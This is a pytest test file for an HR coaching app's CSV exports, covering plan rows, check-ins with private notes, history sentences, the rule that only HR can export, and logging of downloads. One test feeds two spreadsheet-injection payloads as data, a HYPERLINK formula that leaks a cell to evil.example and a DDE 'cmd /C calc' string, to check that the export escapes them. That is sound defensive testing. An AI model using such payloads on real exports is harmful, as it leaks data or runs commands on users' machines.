"""HR's CSV exports, read back with the csv module as a spreadsheet would read them.

Every plan with its people, dates, status, outcome and overdue check-ins; one plan's history
as the sentences of the History tab; one plan's check-ins with the private notes in their own
column and per goal the rating and the value with its unit. A formula typed into a plan (a
title or a note starting with "=HYPERLINK(") comes out as text. Anyone but HR: 404.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from builders import START, advance, build_cast, draft_plan, parse

from coach.db.tables import Plan
from coach.services import tracking

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


@pytest.fixture
def cast(world, unit, analyze):
    with unit() as session:
        return build_cast(session, world, analyze)


def rows_of(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.status_code
    assert response.headers["Content-Type"].startswith("text/csv")
    assert "attachment" in response.headers["Content-Disposition"]
    text = response.get_data().decode("utf-8-sig")  # Excel's byte order mark, then the table
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_every_plan_hr_sees_with_people_dates_status_and_overdue_check_ins(auth, world, cast):
    rows = rows_of(auth.login("hana").get("/plans.csv"))
    by_number = {int(row["Plan number"]): row for row in rows}
    assert set(by_number) == {cast.eli_plan, cast.erin_plan}
    eli = by_number[cast.eli_plan]
    assert eli["Plan"] == "Ticket response times for Eli"
    assert (eli["Employee"], eli["Manager"], eli["Coach"], eli["HR contact"]) == (
        "Eli", "Maria", "Cole", "Hana",
    )  # fmt: skip
    assert eli["Start"] == START.isoformat()
    assert eli["Status"] == "Active" and eli["Outcome"] == ""
    # Started two weeks ago, weekly: the check-in of last week was missed; today's is next.
    assert eli["Overdue check-ins"] == "1"
    assert eli["Next check-in due"] == (START + dt.timedelta(days=14)).isoformat()

    only_active = rows_of(auth.login("hana").get("/plans.csv?status=draft"))
    assert only_active == []


def test_a_formula_in_a_title_or_a_note_comes_out_as_text(auth, world, unit, analyze, cast):
    with unit() as session:
        plan = draft_plan(
            session, world.maria, world.erin, world.cara, world.hana, analyze, title=PAYLOAD
        )
        advance(session, plan, world.maria, world.erin, "active")
        tracking.add_check_in(
            session=session, actor=world.maria, plan_id=cast.eli_plan,
            date=START + dt.timedelta(days=7), notes=PAYLOAD, private_notes="+cmd|' /C calc'!A0",
        )  # fmt: skip
    hana = auth.login("hana")
    titles = [row["Plan"] for row in rows_of(hana.get("/plans.csv"))]
    assert "'" + PAYLOAD in titles and PAYLOAD not in titles

    (check_in,) = rows_of(hana.get(f"/plans/{cast.eli_plan}/check-ins.csv"))
    assert check_in["Notes"] == "'" + PAYLOAD
    assert check_in["Private notes (manager and HR only)"] == "'+cmd|' /C calc'!A0"


def test_check_ins_with_private_notes_and_each_goals_rating_and_value(auth, world, unit, cast):
    with unit() as session:
        goal_one, goal_two = cast.eli_goals
        for days, notes, value in ((7, "First week", "80"), (14, "Second week", "85")):
            tracking.add_check_in(
                session=session, actor=world.maria, plan_id=cast.eli_plan,
                date=START + dt.timedelta(days=days), notes=notes, private_notes=f"Private {days}",
                ratings=[
                    {"goal_id": goal_one, "status": "at_risk", "current_value": value},
                    {"goal_id": goal_two, "status": "on_track", "current_value": "7"},
                ],
            )  # fmt: skip
    rows = rows_of(auth.login("hana").get(f"/plans/{cast.eli_plan}/check-ins.csv"))
    assert [row["Held on"] for row in rows] == [
        (START + dt.timedelta(days=7)).isoformat(),
        (START + dt.timedelta(days=14)).isoformat(),
    ]  # oldest first
    first = rows[0]
    assert first["Due date"] == (START + dt.timedelta(days=7)).isoformat()
    assert first["Kind"] == "Scheduled" and first["Notes"] == "First week"
    assert first["Private notes (manager and HR only)"] == "Private 7"
    assert first["Goal 1 rating"] == "At risk" and first["Goal 1 value"] == "80%"
    assert first["Goal 2 rating"] == "On track" and first["Goal 2 value"] == "7%"
    assert rows[1]["Goal 1 value"] == "85%"


def test_the_history_as_sentences_with_time_and_person(auth, cast):
    rows = rows_of(auth.login("hana").get(f"/plans/{cast.eli_plan}/history.csv"))
    assert list(rows[0]) == ["Time (UTC)", "Person", "Kind", "What happened", "Details"]
    assert rows[0]["Person"] == "Maria" and rows[0]["What happened"] == "Maria drafted the plan."
    assert dt.datetime.strptime(rows[0]["Time (UTC)"], "%Y-%m-%d %H:%M")
    sentences = [row["What happened"] for row in rows]
    assert "Maria issued the plan to the employee." in sentences
    assert "Eli acknowledged the plan." in sentences
    assert all("{" not in row["Details"] and "_id" not in row["Details"] for row in rows)


@pytest.mark.parametrize("name", ["eli", "maria", "cole", "adam", "erin", "mo"])
def test_nobody_but_hr_gets_an_export(auth, cast, name):
    browser = auth.login(name)
    for url in (
        "/plans.csv",
        f"/plans/{cast.eli_plan}/history.csv",
        f"/plans/{cast.eli_plan}/check-ins.csv",
    ):
        assert browser.get(url).status_code == 404, url


def test_hr_finds_the_exports_on_the_plan_list_and_the_history_tab(auth, cast):
    hana = auth.login("hana")
    links = {a["href"] for a in parse(hana.get("/plans")).select("a[href]")}
    assert "/plans.csv" in links
    history = parse(hana.get(f"/plans/{cast.eli_plan}/history"))
    hrefs = {a["href"] for a in history.select("a[href]")}
    assert {f"/plans/{cast.eli_plan}/history.csv", f"/plans/{cast.eli_plan}/check-ins.csv"} <= hrefs
    assert "private notes" in history.get_text().lower()
    manager_links = {a["href"] for a in parse(auth.login("maria").get("/plans")).select("a")}
    assert "/plans.csv" not in manager_links


def test_a_closed_plan_counts_the_check_ins_it_missed_before_closing(auth, world, unit, cast):
    from coach.services import plans

    with unit() as session:
        plan = session.get(Plan, cast.erin_plan)
        plans.close_plan(
            session=session, actor=world.hana, plan_id=plan.id, version=plan.version,
            outcome="not_met",
        )  # fmt: skip
    rows = {int(r["Plan number"]): r for r in rows_of(auth.login("hana").get("/plans.csv"))}
    erin = rows[cast.erin_plan]
    assert (erin["Status"], erin["Outcome"]) == ("Closed", "Not met")
    assert erin["Overdue check-ins"] == "1" and erin["Next check-in due"] == ""


def test_taking_a_plans_export_is_in_its_history(auth, cast):
    hana = auth.login("hana")
    rows_of(hana.get(f"/plans/{cast.eli_plan}/check-ins.csv"))
    rows_of(hana.get(f"/plans/{cast.eli_plan}/history.csv"))
    sentences = [
        row["What happened"] for row in rows_of(hana.get(f"/plans/{cast.eli_plan}/history.csv"))
    ]
    assert sentences[-2:] == [
        "Hana downloaded the check-ins as a spreadsheet (CSV), private notes included.",
        "Hana downloaded this history as a spreadsheet (CSV).",
    ]
    page = hana.get(f"/plans/{cast.eli_plan}/history").get_data(as_text=True)
    assert "Hana downloaded the check-ins as a spreadsheet (CSV), private notes included." in page
    # Nobody else's download is recorded: a refused one is not a download.
    auth.login("maria").get(f"/plans/{cast.eli_plan}/history.csv")
    again = rows_of(hana.get(f"/plans/{cast.eli_plan}/history.csv"))
    assert [row["Person"] for row in again[-3:]] == ["Hana", "Hana", "Hana"]
